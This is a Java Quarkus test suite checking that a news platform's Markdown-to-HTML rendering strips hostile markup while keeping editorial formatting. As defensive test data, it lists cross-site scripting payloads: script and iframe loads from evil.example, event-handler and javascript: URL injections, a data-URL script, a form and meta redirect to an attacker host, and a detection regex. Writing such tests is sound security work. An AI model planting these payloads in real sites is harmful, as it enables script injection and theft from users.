package news.broadsheet.article;

import io.quarkus.test.junit.QuarkusTest;
import news.broadsheet.Api;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Map;
import java.util.regex.Pattern;

import static news.broadsheet.Api.anonymous;
import static org.hamcrest.Matchers.allOf;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.matchesPattern;
import static org.hamcrest.Matchers.not;

/** Hostile Markdown in, safe HTML out; the Markdown itself is kept as written. */
@QuarkusTest
class SanitizingTest {

    /** Inside a tag (escaped text cannot match, it has no '<'): scripting elements, handlers, styles, dangerous URLs. */
    private static final Pattern UNSAFE = Pattern.compile(
            "(?is).*(<\\s*(script|iframe|object|embed|style|form|input|svg|math|meta|base|link)\\b"
                    + "|<[^>]*\\s(on\\w+|style)\\s*="
                    + "|<[^>]*(href|src)\\s*=\\s*[\"']?\\s*(javascript|data|vbscript):).*");

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert('x')</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"#\" onclick=\"steal()\">click</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "![x](javascript:alert(1))",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
            "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
            "<style>body{display:none}</style>",
            "<svg onload=alert(1)><circle r=1></svg>",
            "<form action=\"https://evil.example\"><input name=p></form>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    })
    void hostileMarkupDoesNotSurvive(String hostile) {
        Map<String, Object> article = Api.article(Api.section());
        article.put("body", "Before.\n\n" + hostile + "\n\nAfter.\n");
        String slug = Api.create(article);
        anonymous().get("/api/v1/articles/" + slug).then().statusCode(200)
                .body("body", containsString(hostile))
                .body("bodyHtml", allOf(not(matchesPattern(UNSAFE)), containsString("<p>Before.</p>")));
    }

    @Test
    void editorialMarkupSurvives() {
        Map<String, Object> article = Api.article(Api.section());
        article.put("body", """
                ## A heading

                Some *emphasis*, **strength**, ~~a correction~~ and `code`.

                > A quote from the minister.

                - one
                - two

                | City | Votes |
                |:-----|------:|
                | Lviv | 1200 |

                [The report](https://example.org/report) and https://example.org/auto.

                ![A chart](https://images.example.org/chart.png "Turnout")
                """);
        String slug = Api.create(article);
        anonymous().get("/api/v1/articles/" + slug).then().statusCode(200)
                .body("bodyHtml", allOf(
                        containsString("<h2>A heading</h2>"),
                        containsString("<em>emphasis</em>"),
                        containsString("<strong>strength</strong>"),
                        containsString("<del>a correction</del>"),
                        containsString("<code>code</code>"),
                        containsString("<blockquote>"),
                        containsString("<li>one</li>"),
                        containsString("<table>"),
                        containsString("<td align=\"right\">1200</td>"),
                        containsString("href=\"https://example.org/report\""),
                        containsString("href=\"https://example.org/auto\""),
                        containsString("rel=\"noopener noreferrer\""),
                        containsString("src=\"https://images.example.org/chart.png\""),
                        containsString("alt=\"A chart\"")));
    }
}
